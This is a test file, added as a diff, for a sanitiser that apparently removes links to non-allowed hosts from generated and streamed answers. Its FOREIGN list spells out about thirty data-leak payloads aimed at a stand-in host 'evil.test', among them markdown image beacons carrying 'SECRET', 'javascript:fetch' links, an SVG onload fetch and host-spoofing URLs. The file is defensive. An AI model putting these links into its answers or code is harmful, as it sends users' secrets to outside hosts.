@@ -1,0 +1,95 @@
+"""Which links of an answer are shown."""
+
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from api.answers.links import LEFT_OUT, LinkBuffer, Links
+
+LINKS = Links([".example.org", "docs.stoker.test"], ["https://elsewhere.test/handbook.pdf"])
+
+FOREIGN = [
+    "![](https://evil.test/p.png?d=SECRET)",
+    "![pixel](<https://evil.test/p.png?d=SECRET> 'x')",
+    "[press here](https://evil.test/SECRET)",
+    "[press](javascript:fetch('https://evil.test/SECRET'))",
+    "[press](//evil.test/SECRET)",
+    "[press](\\\\evil.test\\SECRET)",
+    "[press][1]\n\n[1]: https://evil.test/SECRET",
+    "<https://evil.test/SECRET>",
+    "https://evil.test/SECRET",
+    "HTTPS://EVIL.test/SECRET",
+    "https:\\\\evil.test\\SECRET",
+    "www.evil.test/SECRET",
+    "//evil.test/SECRET",
+    "https://docs.stoker.test@evil.test/SECRET",
+    "https://evil.test@docs.stoker.test/",  # leads to an allowed host, and looks as if it did not
+    "https://docs.stoker.test\\@evil.test/SECRET",
+    "https://docs.stoker.test.evil.test/SECRET",
+    "https://evilexample.org/SECRET",
+    "ftp://evil.test/SECRET",
+    "mailto:someone@evil.test?body=SECRET",
+    "data:text/html;base64,SECRET",
+    '<img src="https://evil.test/SECRET">',
+    "<img src=//evil.test/SECRET",
+    '<a href="https://evil.test/SECRET">press</a>',
+    "<svg onload=fetch('//evil.test/SECRET')>",
+    "[[a](https://evil.test/SECRET)](https://evil.test/SECRET)",
+    "[![a](https://evil.test/SECRET)](https://docs.stoker.test)",
+    "![a](http://127.0.0.1/SECRET)",
+    "[a](https://evil.test/x(y)SECRET)",
+    "ht[a](b)tps://evil.test/SECRET",
+]
+
+ALLOWED = [
+    "See https://docs.stoker.test/guide.",
+    "[the guide](https://docs.stoker.test/guide)",
+    "![a chart](https://img.example.org/chart.png)",
+    "The gateway is at http://127.0.0.1:8080/v1 and http://localhost:8080.",
+    "It stands in https://elsewhere.test/handbook.pdf.",
+    "Ports 8000/8001, and/or 1:2; a // b is a comment; std::vector, C:\\Temp, a[0](x), 3 < 4 > 2, <name>.",
+    "Call f(x)[0] or see [1].",
+]
+
+
+@pytest.mark.parametrize("text", FOREIGN)
+def test_a_foreign_link_is_left_out(text: str) -> None:
+    shown = LINKS.cleaned(f"Before {text} after.")
+    assert "evil" not in shown.lower(), shown
+    assert "SECRET" not in shown or "127.0.0.1" not in shown
+    assert not re.search(r"\]\([^)]*[/:]", shown) or "docs.stoker.test" in shown
+    assert shown.startswith("Before")
+    assert "<" not in shown
+
+
+@pytest.mark.parametrize("text", ALLOWED)
+def test_what_is_allowed_or_no_link_at_all_stays(text: str) -> None:
+    assert LINKS.cleaned(text) == text
+
+
+def test_the_text_of_a_link_stays() -> None:
+    assert LINKS.cleaned("Read [the rules](https://evil.test/x) first.") == "Read the rules first."
+    assert LINKS.cleaned("Read https://evil.test/x.") == f"Read {LEFT_OUT}."
+
+
+def test_every_host_may_be_allowed() -> None:
+    text = "![a](https://anywhere.test/a.png) and https://anywhere.test."
+    assert Links(["*"]).cleaned(text) == text
+    assert "javascript" not in Links(["*"]).cleaned("[a](javascript:b)")
+
+
+@given(st.lists(st.sampled_from([*FOREIGN, *ALLOWED, " ", "\n", "[", "](", ")", "!", "<", "https:", "//", "ww", "w."])))
+def test_doing_it_again_changes_nothing(parts: list[str]) -> None:
+    once = LINKS.cleaned(" ".join(parts))
+    assert LINKS.cleaned(once) == once
+    assert not re.search(r"[a-z]:[/\\]+[^ ]*evil\.test|www\.evil", once, re.IGNORECASE)
+
+
+@given(st.lists(st.sampled_from([*FOREIGN, *ALLOWED, " "]), max_size=4), st.integers(1, 9))
+def test_however_a_stream_is_cut_no_foreign_link_is_shown(parts: list[str], size: int) -> None:
+    text, buffer = " ".join(parts), LinkBuffer(LINKS)
+    shown = "".join(buffer.add(text[at : at + size]) for at in range(0, len(text), size)) + buffer.rest()
+    assert "evil.test" not in shown.lower()
+    assert "SECRET" not in LINKS.cleaned(shown) or "evil" not in shown
